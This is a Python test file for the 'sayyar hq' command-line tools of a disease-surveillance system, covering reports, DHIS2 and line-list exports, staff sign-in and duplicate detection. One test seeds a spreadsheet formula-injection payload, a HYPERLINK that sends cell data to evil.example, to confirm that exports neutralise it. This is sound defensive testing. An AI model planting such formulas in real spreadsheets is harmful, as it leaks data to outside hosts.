"""``sayyar hq …`` subcommands through the real ``sayyar`` command line."""

from __future__ import annotations

import json
from datetime import date

import jsonschema
import pytest
from hq_helpers import add_case, add_patient, add_site, add_visit, central_sqlite
from sqlalchemy import select

from app.cli import main
from app.hq.dhis2 import schema
from app.hq.models import hq_audit
from app.hq.staff import set_staff


def run(argv: list[str]) -> int:
    return main(argv)


PASSWORD = "hq-staff-2026"


@pytest.fixture(autouse=True)
def _password(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SAYYAR_PASSWORD", PASSWORD)


def staff(engine, site) -> None:  # type: ignore[no-untyped-def]
    """The staff accounts the commands sign in with (a name alone is not enough: issue #12, hole 7)."""
    set_staff(engine, username="l.karimi", role="headquarters", password=PASSWORD)
    set_staff(engine, username="h.rigi", role="coordinator", password=PASSWORD, unit_id=site["F02"]["unit_id"])


def test_report_and_exports_from_the_command_line(tmp_path, capsys) -> None:
    db = tmp_path / "central.db"
    engine = central_sqlite(str(db))
    with engine.begin() as conn:
        site = add_site(conn)
        p = add_patient(conn)
        add_visit(conn, p, site["F02"], date(2026, 11, 24))
        add_case(conn, "measles", site["F02"], date(2026, 11, 24), patient=p)
    staff(engine, site)
    common = ["--db", str(db)]
    hq = ["--user", "l.karimi"]  # every hq command signs in (issue 12): the report and alerts too
    assert run([*hq, "hq", "report", "--week", "2026W47", "--out", str(tmp_path / "r.pdf"), *common]) == 0
    out = capsys.readouterr().out
    assert "2026SatW47" in out and "Sat 21 Nov 2026 – Fri 27 Nov 2026" in out and "Saturday to Friday" in out
    assert (tmp_path / "r.pdf").read_bytes().startswith(b"%PDF")
    assert run(["hq", "export", "dhis2", "--week", "2026SatW47", "--out", str(tmp_path / "d.json"),
                "--user", "l.karimi", *common]) == 0
    payload = json.loads((tmp_path / "d.json").read_text())
    jsonschema.validate(payload, schema())
    assert payload["period"] == "2026SatW47" and "F02" in capsys.readouterr().out
    assert run(["hq", "export", "linelist", "--format", "csv", "--out", str(tmp_path / "l.csv"), "--user",
                "l.karimi", "--identities", *common]) == 0
    assert "Fatemeh" in (tmp_path / "l.csv").read_text(encoding="utf-8-sig")
    assert run(["hq", "export", "linelist", "--out", str(tmp_path / "l.xlsx"), "--user", "h.rigi",
                "--identities", *common]) == 2
    assert "headquarters only" in capsys.readouterr().err
    assert run([*hq, "hq", "report", "--week", "2026W99", "--out", str(tmp_path / "x.pdf"), *common]) == 2
    assert run([*hq, "hq", "report", "--week", "1405W36", "--out", str(tmp_path / "x.pdf"), *common]) == 2
    assert "Solar Hijri" in capsys.readouterr().err
    assert run([*hq, "hq", "report", "--week", "2026SunW47", "--out", str(tmp_path / "x.pdf"), *common]) == 2
    assert "counts weeks from Saturday" in capsys.readouterr().err
    assert run([*hq, "hq", "alerts", *common]) == 0
    out = capsys.readouterr().out
    assert "Saturday to Friday" in out and "1 new" in out and " late)" in out  # week 47 seen weeks after
    with engine.connect() as conn:
        assert [r.action for r in conn.execute(select(hq_audit))] == ["export_dhis2", "export_linelist"]
    engine.dispose()


def test_the_global_user_is_not_overridden_by_the_subcommand(tmp_path, capsys) -> None:
    """``sayyar --user NAME hq export …`` used to lose NAME: the hq subcommands' own --user replaced it with None."""
    db = tmp_path / "central.db"
    engine = central_sqlite(str(db))
    with engine.begin() as conn:
        site = add_site(conn)
    staff(engine, site)
    engine.dispose()
    assert run(["--user", "l.karimi", "hq", "export", "dhis2", "--week", "2026W48", "--db", str(db),
                "--out", str(tmp_path / "d.json")]) == 0
    assert run(["hq", "export", "dhis2", "--week", "2026W48", "--db", str(db), "--out", str(tmp_path / "e.json")]) == 2
    assert "--user" in capsys.readouterr().err


def test_central_commands_refuse_a_missing_database_instead_of_making_one(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SAYYAR_CENTRAL_DB", raising=False)
    for argv in (["hq", "import", "b.sayyar-bundle"], ["hq", "conflicts"], ["hq", "alerts"],
                 ["hq", "report", "--out", "r.pdf"]):
        assert run(argv) == 2
        assert "--db" in capsys.readouterr().err
    missing = tmp_path / "no-such.db"
    assert run(["--user", "l.karimi", "hq", "import", "b.sayyar-bundle", "--db", str(missing)]) == 2
    assert "no central database at" in capsys.readouterr().err and not missing.exists()
    other = tmp_path / "other.db"
    other.write_bytes(b"")
    assert run(["hq", "alerts", "--db", str(other)]) == 2
    assert "not a Sayyar central database" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.db"]


def test_site_settings_are_set_once_and_used_everywhere(tmp_path, capsys) -> None:
    db = tmp_path / "central.db"
    engine = central_sqlite(str(db))
    with engine.begin() as conn:
        site = add_site(conn)
        add_case(conn, "measles", site["F02"], date(2026, 11, 29))
    staff(engine, site)
    assert run(["--user", "h.rigi", "hq", "config", "--db", str(db)]) == 0  # seeing them: any staff account
    assert "saturday" in capsys.readouterr().out
    assert run(["hq", "config", "--week-start", "monday", "--db", str(db)]) == 2  # who?
    assert run(["--user", "h.rigi", "hq", "config", "--week-start", "monday", "--db", str(db)]) == 2
    assert "headquarters only" in capsys.readouterr().err
    assert run(["--user", "l.karimi", "hq", "config", "--week-start", "monday", "--malaria-elimination", "off",
                "--db", str(db)]) == 0
    assert "Monday to Sunday (ISO)" in capsys.readouterr().out
    assert run(["--user", "l.karimi", "hq", "alerts", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert "2026W48" in out and "malaria elimination off" in out
    engine.dispose()


def test_duplicates_across_units_by_code_and_reason(tmp_path, capsys) -> None:
    db = tmp_path / "central.db"
    engine = central_sqlite(str(db))
    with engine.begin() as conn:
        add_patient(conn, code="ZAH1-000001-1", registered_unit_id="u-zah", given_name_fa="محمد", given_name_latin="",
                    father_name_fa="غلام‌رسول", father_name_latin="", sex="male", birth_year=1980,
                    birth_estimated=True)
        add_patient(conn, code="TAY1-000001-1", registered_unit_id="u-tay", given_name_latin="Muhammad",
                    father_name_latin="Ghulam Rasool", sex="male", birth_year=1984, birth_estimated=True)
        add_patient(conn, code="TAY1-000002-1", registered_unit_id="u-tay", given_name_latin="Mohammed",
                    father_name_latin="Gholamrasul", sex="male", birth_year=1981, birth_estimated=True)
        add_patient(conn, code="TAY1-000003-1", registered_unit_id="u-tay", given_name_latin="Zainab",
                    father_name_latin="Karim", sex="female", birth_year=2001)
    set_staff(engine, username="l.karimi", role="headquarters", password=PASSWORD)
    assert run(["--user", "l.karimi", "hq", "duplicates", "--db", str(db)]) == 0
    lines = capsys.readouterr().out.splitlines()
    pairs = [json.loads(line) for line in lines[:-1]]
    assert lines[-1] == "3 likely duplicate pair(s) among 4 patient(s)"
    assert {(p["keep"], p["merge"]) for p in pairs} == {("TAY1-000001-1", "ZAH1-000001-1"),
                                                      ("TAY1-000002-1", "ZAH1-000001-1"),
                                                      ("TAY1-000001-1", "TAY1-000002-1")}
    assert all("given:" in " ".join(p["reasons"]) for p in pairs)
    assert "Muhammad" not in "\n".join(lines) and "محمد" not in "\n".join(lines)  # codes, never names
    assert run(["--user", "l.karimi", "hq", "duplicates", "--across-units", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert "2 likely duplicate pair(s)" in out and "TAY1-000002-1\", \"merge\": \"ZAH1" in out


def test_identity_exports_need_the_password_and_formulas_stay_text(tmp_path, capsys, monkeypatch) -> None:
    """Issue #12, holes 7 and 8: ``--user NAME`` alone exported identities; a name typed as a formula ran in the
    spreadsheet at headquarters."""
    import io

    import openpyxl

    db = tmp_path / "central.db"
    engine = central_sqlite(str(db))
    with engine.begin() as conn:
        site = add_site(conn)
        p = add_patient(conn, given_name_latin='=HYPERLINK("http://evil.example/?"&A1,"open")',
                        father_name_latin="@SUM(A1:A9)")
        add_visit(conn, p, site["F02"], date(2026, 11, 24))
        add_case(conn, "measles", site["F02"], date(2026, 11, 24), patient=p)
    staff(engine, site)
    out = tmp_path / "l.csv"
    monkeypatch.setenv("SAYYAR_PASSWORD", "not-the-password")
    assert run(["hq", "export", "linelist", "--out", str(out), "--user", "l.karimi", "--identities",
                "--db", str(db)]) == 2
    assert "wrong name or password" in capsys.readouterr().err and not out.exists()
    with engine.connect() as conn:
        assert conn.execute(select(hq_audit)).first() is None
    monkeypatch.setenv("SAYYAR_PASSWORD", PASSWORD)
    assert run(["hq", "export", "linelist", "--out", str(out), "--user", "l.karimi", "--identities",
                "--db", str(db)]) == 0
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(A1:A9)" in text
    assert run(["hq", "export", "linelist", "--out", str(tmp_path / "l.xlsx"), "--user", "l.karimi",
                "--identities", "--db", str(db)]) == 0
    ws = openpyxl.load_workbook(io.BytesIO((tmp_path / "l.xlsx").read_bytes())).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    engine.dispose()


def test_a_rule_change_applies_to_the_cases_already_held(tmp_path, capsys) -> None:
    """Publishing a disease list or changing the week convention re-evaluates the alerts at once, in the same
    transaction (the import hook looks only at what each new batch touches); doing it twice raises nothing twice."""
    from test_registry_publish import version_2

    db = tmp_path / "central.db"
    engine = central_sqlite(str(db))
    with engine.begin() as conn:
        site = add_site(conn)
        add_case(conn, "animal_bite", site["F02"], date(2026, 11, 25))
    staff(engine, site)
    listed = tmp_path / "diseases-v2.json"
    listed.write_text(json.dumps(version_2()), encoding="utf-8")
    capsys.readouterr()
    assert run(["--user", "l.karimi", "hq", "registry", "publish", str(listed), "--db", str(db)]) == 0
    assert "Alerts re-evaluated under it: 1 raised." in capsys.readouterr().out
    from app.hq.models import hq_alert

    with engine.connect() as conn:
        assert [r.disease for r in conn.execute(select(hq_alert))] == ["animal_bite"]
    assert run(["--user", "l.karimi", "hq", "config", "--week-start", "monday", "--db", str(db)]) == 0
    assert "Alerts re-evaluated under the new settings: 0 raised." in capsys.readouterr().out
    with engine.connect() as conn:
        assert len(conn.execute(select(hq_alert)).all()) == 1  # the same case, not a second alert
    engine.dispose()
